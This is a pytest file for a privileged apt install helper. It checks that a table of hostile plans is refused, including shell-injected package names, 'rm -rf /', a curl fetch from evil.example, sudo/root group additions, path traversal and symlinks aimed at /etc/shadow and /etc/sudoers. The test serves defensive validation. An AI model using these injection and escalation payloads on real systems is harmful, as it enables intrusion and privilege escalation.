"""The privileged helper refuses hostile input, and refusing runs nothing and writes nothing.

Every case of the table is checked twice:

* in-process, against a small fake system (passwd, group, apt folders, planted symbolic links):
  ``check_input`` refuses it with the expected reason (runs anywhere, no root needed);
* for real, as root, inside a throwaway Debian root (mmdebstrap + chroot): ``--check`` exits 2 with
  the reason, and a real run exits 2 under an audit hook (tests/install/audit_run.py) that records
  any process start or file write: the record stays empty, a sentinel file is never created, and
  /etc, /home, /opt and dpkg's database are unchanged.
"""

from __future__ import annotations

import base64
import io
import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from core.install.helper import main as helper
from core.install.helper.policy import ROCMATE_FILES, TTM_CONF, TTM_PAGES_PER_GIB, ttm_conf_text
from core.install.helper.target import Policy, Target
from core.install.helper.validate import (
    MAX_INPUT_BYTES,
    MAX_STEPS,
    TtmLimit,
    WriteFile,
    check_input,
)
from tests.install.support import (
    TRUSTED_FPR,
    TRUSTED_KEY,
    UNTRUSTED_FPR,
    UNTRUSTED_KEY,
    add_accounts_in_chroot,
    add_fixtures,
    armor,
    command_step,
    copy_root,
    install_rocmate,
    keyring_step,
    pin_content,
    pin_step,
    plan,
    run_helper,
    snapshot,
    source_line,
    source_step,
    step,
    synthetic_key,
    trusting_policy,
    write_accounts,
)

AMD_URI = "https://repo.radeon.com/rocm/apt/6.2"
SENTINEL = "tmp/PWNED"
WATCHED = ("etc", "home", "opt/rocmate", "var/lib/dpkg")


@dataclass(frozen=True)
class Case:
    """One hostile input and a piece of the reason the helper must give."""

    name: str
    payload: bytes
    reason: str


def _key() -> dict[str, Any]:
    """A keyring step the policy accepts (so that later steps are judged on their own)."""
    return keyring_step(TRUSTED_KEY, TRUSTED_FPR)


def _install(*packages: str) -> bytes:
    return plan(command_step("install", "apt-get", "install", "-y", *packages))


def _argv(*argv: str, **fields: Any) -> bytes:
    return plan(command_step("cmd", *argv, **fields))


def _source(content: str, name: str = "rocm.list") -> bytes:
    return plan(_key(), source_step(content, name=name))


def _core_sdk_key() -> dict[str, Any]:
    """The Core SDK's keyring name, with the trusted test key."""
    return keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="amdrocm.gpg")


def _core_sdk_source(uri: str) -> bytes:
    """The Core SDK's deb822 source file pointing at ``uri``."""
    return plan(_core_sdk_key(), source_step(DEB822_CORE_SDK.replace(CORE_SDK_URI, uri),
                                             name="amdrocm-stable.sources"))


def _file(path: str, content: str = "x\n", **extra: Any) -> bytes:
    return plan(step("file", file={"path": path, "content": content, **extra}))


def _raw_steps(*steps: Any) -> bytes:
    return json.dumps({"schema": "rocmate.plan/1", "steps": list(steps)}).encode()


def _two_keys() -> bytes:
    both = base64.b64encode(TRUSTED_KEY + UNTRUSTED_KEY).decode()
    spec = {"path": "/etc/apt/keyrings/rocm.gpg", "content_b64": both}
    return plan(step("key", file=spec, key_fingerprint=TRUSTED_FPR))


def _key_from(url: str) -> bytes:
    """A trusted key whose step says it came from ``url``."""
    key = _key()
    key["file"]["source_url"] = url
    return plan(key)


def _secret_key() -> bytes:
    secret = synthetic_key("secret", tag=5)
    return plan(keyring_step(secret, TRUSTED_FPR))


def _v3_key() -> bytes:
    return plan(keyring_step(synthetic_key("old", version=3), TRUSTED_FPR))


DEB822_AMD = (
    "Types: deb\nURIs: https://repo.radeon.com/rocm/apt/6.2\nSuites: jammy\nComponents: main\n"
    "Architectures: amd64\nSigned-By: /etc/apt/keyrings/rocm.gpg\n"
)
CORE_SDK_URI = "https://stable.repo.amd.com/rocm/core/packages/ubuntu2404/"
DEB822_CORE_SDK = (
    f"Types: deb\nURIs: {CORE_SDK_URI}\nSuites: stable\nComponents: main\n"
    "Architectures: amd64\nSigned-By: /etc/apt/keyrings/amdrocm.gpg\n"
)
NOT_OURS = "is not one of rocmate's files"
NOT_PURGEABLE = "may not be purged"
AMDGPU_RETIRED = "unknown verb 'amdgpu-install' (an older rocmate planned it"


def _purge(*packages: str) -> bytes:
    return plan(command_step("purge", "apt-get", "purge", "-y", *packages, consent=True))


def add_system_files(root: Path) -> None:
    """apt files of the system and of other programs, as plain files: never rocmate's to
    replace (Docker's key, Ubuntu's archive, Linux Mint's snap pin)."""
    apt = root / "etc/apt"
    (apt / "keyrings").mkdir(parents=True, exist_ok=True)
    (apt / "keyrings/docker.gpg").write_bytes(b"Docker's signing key\n")
    (apt / "sources.list.d").mkdir(parents=True, exist_ok=True)
    (apt / "sources.list.d/ubuntu.sources").write_text(
        "Types: deb\nURIs: http://archive.ubuntu.com/ubuntu\nSuites: noble\nComponents: main\n"
        "Signed-By: /usr/share/keyrings/ubuntu-archive-keyring.gpg\n"
    )
    (apt / "preferences.d").mkdir(parents=True, exist_ok=True)
    (apt / "preferences.d/nosnap.pref").write_text(
        "Package: snapd\nPin: release a=*\nPin-Priority: -10\n"
    )
    # amd-ttm's file (amd-debug-tools), and the RAM the ttm-limit verb measures against
    (root / "etc/modprobe.d").mkdir(parents=True, exist_ok=True)
    (root / "etc/modprobe.d/ttm.conf").write_text("options ttm pages_limit=26214400\n")
    (root / "var/lib").mkdir(parents=True, exist_ok=True)
    (root / "proc").mkdir(exist_ok=True)
    (root / "proc/meminfo").write_text(f"MemTotal: {125 * 1024 * 1024} kB\n")


DEB822_TRUSTED = (
    "Types: deb\nURIs: https://repo.radeon.com/rocm/apt/6.2\nSuites: jammy\nComponents: main\n"
    "Architectures: amd64\nSigned-By: /etc/apt/keyrings/rocm.gpg\nTrusted: yes\n"
)

UNPLANNED_PACKAGES = (
    # the kernel driver and what builds it: no route installs a kernel module (ROCm without
    # DKMS; the kernel's own amdgpu serves, in WSL the Windows driver)
    "amdgpu-dkms", "amdgpu-dkms-firmware", "linux-headers-6.8.0-45-generic",
    "linux-modules-extra-6.8.0-45-generic", "linux-headers-generic",
    # key and certificate tools: the helper checks keys itself
    "gnupg", "ca-certificates",
    # ROCm names the planner never installs: the meta package, versioned names, the old DKMS
    # package, libraries only ever purged
    "rocm", "rocm6.2.0", "rocm-hip-runtime6.2.0", "rocm-dkms", "rocm-core", "rocminfo5.7.1",
    "amd-smi-lib", "hsa-rocr-dev", "hip-runtime-amd",
    # Core SDK look-alikes: the repository package, a series-less name, a gfx suffix where the
    # route writes none, another family, three numbers
    "amdrocm-repo", "amdrocm", "amdrocm-core-dev", "amdrocm-developer-tools10.1-gfx1151",
    "amdrocm-core-sdk10.0-gfx942", "amdrocm-base10.0", "amdrocm10.1.0", "amdrocm10.1-gfx1151-dev",
)
"""Names the install allow-list once held or a loose pattern would take, that no plan installs:
each refused (core.install.helper.policy.INSTALLABLE; ``make faults`` sends each into every real
plan, tests/faults/test_hostile_plans.py)."""

CASES = [
    # shell metacharacters where a name is expected
    Case("pkg-semicolon", _install("rocm;touch /tmp/PWNED"), "shell metacharacter ';'"),
    Case("pkg-pipe", _install("rocm|touch /tmp/PWNED"), "shell metacharacter '|'"),
    Case("pkg-ampersand", _install("rocm&&touch /tmp/PWNED"), "shell metacharacter '&'"),
    Case("pkg-dollar-paren", _install("$(touch /tmp/PWNED)"), "shell metacharacter '$'"),
    Case("pkg-backtick", _install("`touch /tmp/PWNED`"), "shell metacharacter '`'"),
    Case("pkg-redirect-out", _install("rocm>/tmp/PWNED"), "shell metacharacter '>'"),
    Case("pkg-redirect-in", _install("rocm</etc/shadow"), "shell metacharacter '<'"),
    Case("pkg-space", _install("rocm touch"), "shell metacharacter ' '"),
    Case("pkg-newline", _install("rocm\ntouch /tmp/PWNED"), "shell metacharacter '\\n'"),
    Case("pkg-glob", _install("rocm*"), "shell metacharacter '*'"),
    Case("pkg-nul-escape", _install("rocm\u0000"), "U+0000"),
    Case("pkg-unicode", _install("rocm\u2011core"), "U+2011"),
    # option injection and names outside the allow-list
    Case("apt-o-option", _install("-o", "APT::Get::AllowUnauthenticated=true", "rocm"),
         "option '-o' is not allowed"),
    Case("apt-allow-unauthenticated", _install("--allow-unauthenticated", "rocm"),
         "option '--allow-unauthenticated' is not allowed"),
    Case("pkg-leading-dash", _install("rocminfo", "-oAPT::Get::AllowUnauthenticated=1"),
         "option injection"),
    Case("pkg-not-allowed", _install("openssh-server"), "not on the allow-list"),
    Case("pkg-trailing-dash-removes", _install("rocm-"), "not on the allow-list"),
    Case("pkg-version-pin", _install("rocm=6.2.0"), "not on the allow-list"),
    Case("pkg-local-deb", _install("./rocm-core.deb"), "not on the allow-list"),
    Case("pkg-traversal", _install("rocm..core"), "not on the allow-list"),
    Case("apt-without-y", _argv("apt-get", "install", "rocm"), "needs -y"),
    Case("apt-dist-upgrade", _argv("apt-get", "dist-upgrade", "-y"), "is not allowed"),
    Case("apt-update-option", _argv("apt-get", "update", "-o",
                                    "Acquire::AllowInsecureRepositories=true"),
         "takes no arguments"),
    Case("purge-without-consent", _argv("apt-get", "purge", "-y", "rocm"), "consent"),
    Case("purge-consent-false", _argv("apt-get", "purge", "-y", "rocm", consent=False),
         "did not consent"),
    # purge: only ROCm's own packages, even with consent (install may name more)
    Case("purge-ca-certificates", _purge("ca-certificates"), NOT_PURGEABLE),
    Case("purge-gnupg", _purge("gnupg"), NOT_PURGEABLE),
    Case("purge-python3-venv", _purge("python3-venv"), NOT_PURGEABLE),
    Case("purge-kernel-modules", _purge("linux-modules-extra-6.8.0-45-generic"), NOT_PURGEABLE),
    Case("purge-kernel-headers", _purge("linux-headers-6.8.0-45-generic"), NOT_PURGEABLE),
    Case("purge-amdgpu-dkms", _purge("amdgpu-dkms"), NOT_PURGEABLE),
    Case("purge-amdgpu-install", _purge("amdgpu-install"), NOT_PURGEABLE),
    Case("purge-wsl-runtime", _purge("hsa-runtime-rocr4wsl-amdgpu"), NOT_PURGEABLE),
    Case("purge-rocm-and-system", _purge("rocm-core5.7.1", "ca-certificates"), NOT_PURGEABLE),
    Case("purge-not-on-any-list", _purge("openssh-server"), NOT_PURGEABLE),
    # the Core SDK's packages: only versioned amdrocm names (amdrocmX.Y[-gfxNNNN] and the
    # named ones, amdrocm-base10.0), never the repository package or a look-alike
    Case("purge-amdrocm-unversioned", _purge("amdrocm"), NOT_PURGEABLE),
    Case("purge-amdrocm-repo", _purge("amdrocm-repo"), NOT_PURGEABLE),
    Case("purge-amdrocm-and-system", _purge("amdrocm10.0-gfx1151", "gnupg"), NOT_PURGEABLE),
    Case("purge-amdrocm-trailing-word", _purge("amdrocm10.0-gfx1151-evil"), NOT_PURGEABLE),
    Case("purge-amdrocm-not-gfx", _purge("amdrocm10.0-sshd"), NOT_PURGEABLE),
    Case("purge-amdrocm-three-numbers", _purge("amdrocm10.0.0"), NOT_PURGEABLE),
    Case("purge-amdrocm-prefixed", _purge("xamdrocm10.0"), NOT_PURGEABLE),
    Case("purge-amdrocm-trailing-dash", _purge("amdrocm10.0-"), NOT_PURGEABLE),
    Case("purge-amdrocm-uppercase", _purge("AMDROCM10.0-GFX1151"), NOT_PURGEABLE),
    Case("purge-amdrocm-glob", _purge("amdrocm*"), "shell metacharacter '*'"),
    Case("pkg-amdrocm-semicolon", _install("amdrocm10.1-gfx1151;id"), "shell metacharacter ';'"),
    Case("pkg-amdrocm-trailing-dash", _install("amdrocm10.1-"), "not on the allow-list"),
    # packages no plan installs (UNPLANNED_PACKAGES): alone, and beside a planned one
    *(Case(f"unplanned-{name}", _install(name), f"package {name!r} is not on the allow-list")
      for name in UNPLANNED_PACKAGES),
    *(Case(f"unplanned-{name}-beside-planned", _install("rocm-hip-runtime", name),
           f"package {name!r} is not on the allow-list")
      for name in UNPLANNED_PACKAGES),
    # verbs that are not in the table
    Case("verb-rm", _argv("rm", "-rf", "/"), "unknown verb 'rm'"),
    Case("verb-bash-c", _argv("bash", "-c", "touch /tmp/PWNED"), "unknown verb 'bash'"),
    Case("verb-sh", _argv("sh"), "unknown verb 'sh'"),
    Case("verb-curl", _argv("curl", "-fsSL", "https://evil.example/x.sh"), "unknown verb 'curl'"),
    Case("verb-apt-key", _argv("apt-key", "add", "/tmp/key"), "unknown verb 'apt-key'"),
    Case("verb-dpkg-i", _argv("dpkg", "-i", "/tmp/x.deb"), "unknown verb 'dpkg'"),
    Case("verb-absolute-path", _argv("/usr/bin/apt-get", "update"), "give the bare name"),
    Case("verb-env", _argv("env", "apt-get", "update"), "unknown verb 'env'"),
    # the WSL runtime swap runs as the user (core/install/wsl_runtime_swap.py)
    Case("verb-hsa-swap",
         _argv("rocmate-hsa-swap", "/home/tester/venv/lib/python3.11/site-packages/torch/lib"),
         "unknown verb 'rocmate-hsa-swap'"),
    # usermod
    Case("usermod-no-such-user", _argv("usermod", "-aG", "render,video", "nosuchuser"),
         "does not exist"),
    Case("usermod-group-sudo", _argv("usermod", "-aG", "sudo", "tester"), "'sudo' is not allowed"),
    Case("usermod-group-root", _argv("usermod", "-aG", "render,root", "tester"),
         "'root' is not allowed"),
    Case("usermod-group-wheel", _argv("usermod", "-aG", "wheel", "tester"),
         "'wheel' is not allowed"),
    Case("usermod-user-root", _argv("usermod", "-aG", "render,video", "root"), "system account"),
    Case("usermod-user-nobody", _argv("usermod", "-aG", "video", "nobody"), "system account"),
    Case("usermod-user-option", _argv("usermod", "-aG", "video", "-R"), "starts with '-'"),
    Case("usermod-user-meta", _argv("usermod", "-aG", "video", "tester;id"),
         "shell metacharacter ';'"),
    Case("usermod-other-form", _argv("usermod", "-G", "video", "tester"), "usermod must be"),
    # amdgpu-install: out of the table since no route plans it (WSL moved to librocdxg), so
    # every form is refused as a program the table does not allow, the once valid ones too
    Case("amdgpu-unknown-usecase", _argv("amdgpu-install", "-y", "--usecase=evil"),
         AMDGPU_RETIRED),
    Case("amdgpu-uninstall", _argv("amdgpu-install", "-y", "--usecase=rocm", "--uninstall"),
         AMDGPU_RETIRED),
    Case("amdgpu-without-y", _argv("amdgpu-install", "--usecase=wsl,rocm"), AMDGPU_RETIRED),
    Case("amdgpu-formerly-valid", _argv("amdgpu-install", "-y", "--usecase=rocm"),
         AMDGPU_RETIRED),
    Case("amdgpu-formerly-valid-wsl",
         _argv("amdgpu-install", "-y", "--usecase=wsl,rocm", "--no-dkms"), AMDGPU_RETIRED),
    Case("amdgpu-absolute-path", _argv("/usr/bin/amdgpu-install", "-y", "--usecase=rocm"),
         "unknown verb '/usr/bin/amdgpu-install'"),
    # ... and what only its route asked for: its package, its WSL runtime, AMD's amdgpu
    # repository and the amdgpu.list / amdgpu.sources files that held it
    Case("install-amdgpu-install", _install("amdgpu-install"),
         "package 'amdgpu-install' is not on the allow-list (only the retired"),
    Case("install-wsl-runtime", _install("rocm-hip-runtime", "hsa-runtime-rocr4wsl-amdgpu"),
         "package 'hsa-runtime-rocr4wsl-amdgpu' is not on the allow-list (amdgpu-install's"),
    Case("source-amdgpu-list", _source(source_line(AMD_URI), name="amdgpu.list"),
         "/etc/apt/sources.list.d/amdgpu.list " + NOT_OURS),
    Case("source-amdgpu-sources", _source(DEB822_AMD, name="amdgpu.sources"),
         "/etc/apt/sources.list.d/amdgpu.sources " + NOT_OURS),
    Case("source-amdgpu-repository",
         _source(source_line("https://repo.radeon.com/amdgpu/6.2/ubuntu")),
         "URI https://repo.radeon.com/amdgpu/6.2/ubuntu is not an allowed repository"),
    # the input itself
    Case("non-utf8", b'[{"id": "\xff\xfe", "privileged": true}]', "not UTF-8"),
    Case("nul-byte", b'[{"id": "a\x00", "privileged": true}]', "NUL byte"),
    Case("oversized", b"[" + b" " * MAX_INPUT_BYTES + b"]", "larger than 256 KiB"),
    Case("too-many-steps",
         plan(*(command_step(f"u{i}", "apt-get", "update") for i in range(MAX_STEPS + 1))),
         "at most 64"),
    Case("deeply-nested", b"[" * 10000 + b"]" * 10000, "nests deeper"),
    Case("not-json", b"apt-get install rocm; touch /tmp/PWNED", "not valid JSON"),
    Case("nan", b'[{"id": "a", "privileged": true, "consent": NaN}]', "NaN is not allowed"),
    Case("duplicate-key", b'[{"id": "a", "privileged": true, "argv": ["apt-get", "update"], '
                          b'"argv": ["rm", "-rf", "/"]}]', "appears twice"),
    Case("wrong-schema", json.dumps({"schema": "rocmate.plan/2", "steps": []}).encode(),
         "schema"),
    Case("top-level-string", b'"apt-get update"', "plan object or a list"),
    Case("argv-is-string", _raw_steps(step("s", argv="apt-get update")), "argv must be"),
    Case("argv-has-number", _raw_steps(step("s", argv=["apt-get", 1])), "must be a string"),
    Case("privileged-not-bool", _raw_steps({"id": "s", "privileged": "yes", "argv": ["sh"]}),
         "privileged"),
    Case("step-not-object", _raw_steps(["apt-get", "update"]), "not an object"),
    Case("unknown-field", _raw_steps(step("s", argv=["apt-get", "update"], shell=True)),
         "unknown field(s) shell"),
    Case("argv-and-file", _raw_steps(step("s", argv=["apt-get", "update"],
                                          file={"path": "/etc/apt/x", "content": ""})),
         "exactly one of argv and file"),
    Case("no-action", _raw_steps(step("s")), "exactly one of argv and file"),
    Case("id-metachar", _raw_steps(step("a;b", argv=["apt-get", "update"])), "id must be"),
    Case("title-escape", _raw_steps(step("s", argv=["apt-get", "update"], title="\x1b[2J")),
         "control character"),
    # file paths
    Case("path-traversal", _file("/etc/apt/keyrings/../../shadow"), "path traversal"),
    Case("path-outside", _file("/etc/sudoers.d/rocm"), "is outside"),
    Case("path-sources-list", _file("/etc/apt/sources.list"), "is outside"),
    Case("path-relative", _file("etc/apt/keyrings/rocm.gpg"), "not an absolute path"),
    Case("path-double-slash", _file("//etc/apt/keyrings/rocm.gpg"), "'//'"),
    # only rocmate's own files: never the system's or another program's, plain files or not
    Case("path-docker-keyring", plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="docker.gpg")),
         NOT_OURS),
    Case("path-new-keyring", plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="rocm2.gpg")),
         NOT_OURS),
    Case("path-ubuntu-sources", plan(_key(), source_step(DEB822_AMD, name="ubuntu.sources")),
         NOT_OURS),
    Case("path-new-source", plan(_key(), source_step(source_line(AMD_URI), name="rocm2.list")),
         NOT_OURS),
    Case("path-other-pin", plan(pin_step(name="nosnap.pref")), NOT_OURS),
    Case("path-core-sdk-keyring-look-alike",
         plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="amdrocm2.gpg")), NOT_OURS),
    Case("path-core-sdk-repo-package-source",  # the amdrocm-repo package's file is not ours
         plan(_core_sdk_key(), source_step(DEB822_CORE_SDK, name="amdrocm.sources")), NOT_OURS),
    Case("path-new-pin", plan(pin_step(name="rocm-pin-1001")), NOT_OURS),
    Case("symlinked-keyring", plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="evil.gpg")),
         NOT_OURS),
    Case("symlinked-source", plan(_key(), source_step(source_line(AMD_URI), name="evil.list")),
         NOT_OURS),
    Case("symlinked-pin", plan(pin_step(name="evil")), NOT_OURS),
    Case("file-mode", _file("/etc/apt/preferences.d/rocm-pin-600", pin_content(), mode="4755"),
         "mode"),
    Case("file-append", _file("/etc/apt/preferences.d/rocm-pin-600", pin_content(), append=True),
         "append"),
    # keyrings
    Case("key-untrusted", plan(keyring_step(UNTRUSTED_KEY, UNTRUSTED_FPR)), "is not trusted"),
    Case("key-fingerprint-mismatch", plan(keyring_step(UNTRUSTED_KEY, TRUSTED_FPR)),
         "is not the step's key_fingerprint"),
    Case("key-two-primaries", _two_keys(), "2 primary keys"),
    Case("key-source-url-climbs-out", _key_from("https://repo.radeon.com/rocm/rocm.gpg.key/"
                                                "../../../etc/shadow"), "is not a key URL"),
    Case("key-source-url-other-host", _key_from("https://evil.example/rocm.gpg.key"),
         "is not a key URL"),
    Case("key-source-url-core-sdk-climbs-out",
         _key_from("https://stable.repo.amd.com/rocm/gpg/packages.gpg/../../../etc/shadow"),
         "is not a key URL"),
    Case("key-secret", _secret_key(), "does not start with a public key"),
    Case("key-v3", _v3_key(), "only version 4"),
    Case("key-garbage", plan(keyring_step("not a key at all", TRUSTED_FPR)),
         "not one OpenPGP public key"),
    Case("key-bad-crc", plan(keyring_step(armor(TRUSTED_KEY).replace("\n=", "\n=AAAA\n#"),
                                          TRUSTED_FPR)),
         "not one OpenPGP public key"),
    Case("key-no-fingerprint", plan(step("k", file={"path": "/etc/apt/keyrings/rocm.gpg",
                                                    "content": armor(TRUSTED_KEY)})),
         "needs key_fingerprint"),
    Case("key-fingerprint-spaces",
         plan(keyring_step(TRUSTED_KEY, " ".join([TRUSTED_FPR[:20], TRUSTED_FPR[20:]]))),
         "needs key_fingerprint"),
    # apt source lines
    Case("source-trusted-yes",
         _source(f"deb [arch=amd64 signed-by=/etc/apt/keyrings/rocm.gpg trusted=yes] {AMD_URI} "
                 "jammy main\n"), "is not 'deb ["),
    Case("source-allow-insecure",
         _source(f"deb [allow-insecure=yes] {AMD_URI} jammy main\n"), "is not 'deb ["),
    Case("source-no-signed-by", _source(f"deb {AMD_URI} jammy main\n"), "is not 'deb ["),
    Case("source-evil-uri", _source(source_line("http://evil.example/rocm/apt/6.2")),
         "not an allowed repository"),
    Case("source-http-amd", _source(source_line("http://repo.radeon.com/rocm/apt/6.2")),
         "not an allowed repository"),
    Case("source-userinfo-uri",
         _source(source_line("https://repo.radeon.com@evil.example/rocm/apt/6.2")), "malformed"),
    Case("source-uri-traversal",
         _source(source_line("https://repo.radeon.com/rocm/apt/../../evil")), "malformed"),
    Case("source-wrong-signed-by",
         _source(source_line(AMD_URI, keyring="/usr/share/keyrings/debian-archive-keyring.gpg")),
         "not under /etc/apt/keyrings/"),
    Case("source-other-keyring",
         _source(source_line(AMD_URI, keyring="/etc/apt/keyrings/other.gpg")),
         "not written by an earlier keyring step"),
    Case("source-suite-meta", _source(source_line(AMD_URI, suite="jammy;id")), "suite"),
    Case("source-unknown-suite", _source(source_line(AMD_URI, suite="sid")), "suite"),
    Case("source-component", _source(source_line(AMD_URI, component="contrib")), "component"),
    Case("source-deb-src", _source(f"deb-src {AMD_URI} jammy main\n"), "is not 'deb ["),
    Case("source-second-line-evil",
         _source(source_line(AMD_URI) + source_line("https://evil.example/x")),
         "not an allowed repository"),
    Case("source-deb822-trusted", _source(DEB822_TRUSTED, name="rocm.sources"), "not allowed"),
    # the Core SDK's repository: only its package folders on stable.repo.amd.com
    Case("source-core-sdk-wheel-index", _core_sdk_source("https://stable.repo.amd.com/rocm/whl-next/"),
         "not an allowed repository"),
    Case("source-core-sdk-other-host",
         _core_sdk_source("https://stable.repo.amd.com.evil.example/rocm/core/packages/ubuntu2404/"),
         "not an allowed repository"),
    Case("source-core-sdk-http", _core_sdk_source(CORE_SDK_URI.replace("https", "http", 1)),
         "not an allowed repository"),
    Case("source-core-sdk-traversal",
         _core_sdk_source("https://stable.repo.amd.com/rocm/core/packages/../../../evil/"),
         "malformed"),
    Case("source-core-sdk-other-suite",
         plan(_core_sdk_key(), source_step(DEB822_CORE_SDK.replace("Suites: stable",
                                                                   "Suites: nightly"),
                                           name="amdrocm-stable.sources")), "suite"),
    Case("source-core-sdk-trusted-yes",
         plan(_core_sdk_key(), source_step(DEB822_CORE_SDK + "Trusted: yes\n",
                                           name="amdrocm-stable.sources")), "not allowed"),
    Case("source-core-sdk-legacy-keyring",  # bound to a key no step of this plan writes
         plan(_key(), source_step(DEB822_CORE_SDK, name="amdrocm-stable.sources")),
         "not written by an earlier keyring step"),
    Case("source-control-char", _source("# \x1b]0;x\x07\n" + source_line(AMD_URI)),
         "control character U+001B"),
    Case("source-name", _source(source_line(AMD_URI), name="rocm.list.save"), NOT_OURS),
    Case("source-fingerprint-field",
         plan(_key(), {**source_step(source_line(AMD_URI)), "key_fingerprint": TRUSTED_FPR}),
         "belongs only on a keyring step"),
    # apt pins
    Case("pin-other-origin", plan(pin_step(pin_content("evil.example"))), "not allowed"),
    Case("pin-priority", plan(pin_step(pin_content(priority=1001))), "must be exactly"),
    Case("pin-extra-line", plan(pin_step(pin_content() + "Package: openssh-server\n")),
         "must be exactly"),
]


LINKED_CASES = [
    # rocmate's own names, where a symbolic link waits (planted by _plant_links)
    Case("linked-keyring", plan(keyring_step(TRUSTED_KEY, TRUSTED_FPR)), "symbolic link"),
    Case("linked-source", plan(source_step(source_line(AMD_URI))),
         "/etc/apt/sources.list.d/rocm.list is a symbolic link"),
    Case("linked-deb822-source", plan(source_step(DEB822_AMD, name="rocm.sources")),
         "/etc/apt/sources.list.d/rocm.sources is a symbolic link"),
    Case("linked-pin", plan(pin_step()), "/etc/apt/preferences.d/rocm-pin-600 is a symbolic link"),
]


def _plant_links(root: Path) -> None:
    """Symbolic links at rocmate's own file names, aimed at files a write through them would
    ruin."""
    links = {
        "etc/apt/keyrings/rocm.gpg": "/etc/shadow",
        "etc/apt/sources.list.d/rocm.list": "/etc/passwd",
        "etc/apt/sources.list.d/rocm.sources": "../../../tmp/PWNED",
        "etc/apt/preferences.d/rocm-pin-600": "/etc/sudoers",
    }
    for link, target in links.items():
        (root / link).parent.mkdir(parents=True, exist_ok=True)
        (root / link).symlink_to(target)


def test_the_table_is_large_and_unique() -> None:
    assert len(CASES) >= 40
    names = [case.name for case in [*CASES, *LINKED_CASES]]
    assert len(set(names)) == len(names)


# --------------------------------------------------------------------------------------------
# in-process, on a fake system


def fake_system(root: Path) -> Target:
    """A small fake system in root: accounts, the apt folders, the system's and others' files."""
    write_accounts(root)
    add_fixtures(root)
    add_system_files(root)
    return Target(str(root))


@pytest.fixture(scope="module")
def fake_target(tmp_path_factory: pytest.TempPathFactory) -> Target:
    return fake_system(tmp_path_factory.mktemp("fake-root"))


@pytest.fixture(scope="module")
def linked_target(tmp_path_factory: pytest.TempPathFactory) -> Target:
    root = tmp_path_factory.mktemp("linked-root")
    write_accounts(root)
    add_fixtures(root)
    _plant_links(root)
    return Target(str(root))


@pytest.fixture(scope="module")
def policy() -> Policy:
    return trusting_policy()


def _reasons(refused: Any) -> str:
    return "\n".join(r.reason for r in refused)


def test_a_good_plan_is_accepted(fake_target: Target, policy: Policy) -> None:
    """The control: the same building blocks, without the hostile part, pass."""
    good = plan(
        _key(), source_step(source_line(AMD_URI)), pin_step(),
        command_step("update", "apt-get", "update"),
        command_step("install", "apt-get", "install", "-y", "--no-install-recommends",
                     "rocm-hip-runtime", "rocminfo", "rocm-hip-sdk", "rocm-developer-tools"),
        command_step("venv-package", "apt-get", "install", "-y", "python3-venv"),
        command_step("purge", "apt-get", "purge", "-y", "rocm-core5.7.1", consent=True),
        command_step("groups", "usermod", "-aG", "render,video", "tester", after="relogin"),
        {**command_step("venv", "python3", "-m", "venv", "/x;y"), "privileged": False},
    )
    result = check_input(good, fake_target, policy)
    assert result.ok, _reasons(result.refused)
    assert [a.verb for a in result.actions] == [
        "keyring", "apt-source", "apt-pin", "apt-update", "apt-install", "apt-install",
        "apt-purge", "usermod",
    ]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_check_refuses(case: Case, fake_target: Target, policy: Policy) -> None:
    result = check_input(case.payload, fake_target, policy)
    assert not result.ok and not result.actions
    assert case.reason in _reasons(result.refused), _reasons(result.refused)


@pytest.mark.parametrize("case", LINKED_CASES, ids=[c.name for c in LINKED_CASES])
def test_check_refuses_links(case: Case, linked_target: Target, policy: Policy) -> None:
    result = check_input(case.payload, linked_target, policy)
    assert not result.ok and not result.actions
    assert case.reason in _reasons(result.refused), _reasons(result.refused)


def test_rocmate_files_are_accepted(fake_target: Target, policy: Policy) -> None:
    """The control for the path cases: each of rocmate's own names, beside the system's files."""
    good = plan(
        _key(), source_step(source_line(AMD_URI)),
        source_step(DEB822_AMD, name="rocm.sources", step_id="deb822"),
        pin_step(),
        keyring_step(TRUSTED_KEY, TRUSTED_FPR, name="amdrocm.gpg", step_id="core-sdk-keyring"),
        source_step(DEB822_CORE_SDK, name="amdrocm-stable.sources", step_id="core-sdk-source"),
        step("ttm", file={"path": TTM_CONF, "content": ttm_conf_text(96 * TTM_PAGES_PER_GIB)}),
    )
    result = check_input(good, fake_target, policy)
    assert result.ok, _reasons(result.refused)
    written = [a.path for a in result.actions if isinstance(a, WriteFile | TtmLimit)]
    assert written == list(ROCMATE_FILES) and len(result.actions) == len(ROCMATE_FILES)


def test_core_sdk_plan_is_accepted(fake_target: Target, policy: Policy) -> None:
    """The control for the Core SDK cases: AMD's key and deb822 source names, its packages
    installed and, with consent, another series' packages purged."""
    good = plan(
        _core_sdk_key(), source_step(DEB822_CORE_SDK, name="amdrocm-stable.sources"),
        command_step("update", "apt-get", "update"),
        command_step("install", "apt-get", "install", "-y", "--no-install-recommends",
                     "amdrocm10.1-gfx1151", "amdrocm-core-dev10.1-gfx90a",
                     "amdrocm-developer-tools10.1", "amdrocm10.1"),
        command_step("purge", "apt-get", "purge", "-y", "amdrocm10.0-gfx1151", "amdrocm10.0",
                     "amdrocm-core10.0-gfx1151", "amdrocm-base10.0", "amdrocm-core-sdk10.0-gfx942",
                     consent=True),
    )
    result = check_input(good, fake_target, policy)
    assert result.ok, _reasons(result.refused)
    assert [a.verb for a in result.actions] == [
        "keyring", "apt-source", "apt-update", "apt-install", "apt-purge",
    ]
    assert result.source_uris == (CORE_SDK_URI,)


def test_check_answer_shape() -> None:
    """``--check`` prints one JSON object and exits 2, naming the step and the reason."""
    out = io.StringIO()
    code = helper.main(["--check"], stdin=io.BytesIO(_argv("rm", "-rf", "/")), stdout=out)
    answer = json.loads(out.getvalue())
    assert code == 2 and answer["ok"] is False
    [refusal] = answer["refused"]
    assert refusal["index"] == 0 and refusal["id"] == "cmd"
    assert "unknown verb 'rm'" in refusal["reason"]


def test_bad_command_line() -> None:
    assert helper.main(["--check", "--yes"], stdin=io.BytesIO(b"[]"), stdout=io.StringIO()) == 3


# --------------------------------------------------------------------------------------------
# for real, as root, in a throwaway Debian root


def _prepared_root(root: Path) -> None:
    install_rocmate(root, fingerprints=[TRUSTED_FPR])
    add_accounts_in_chroot(root)
    add_fixtures(root)
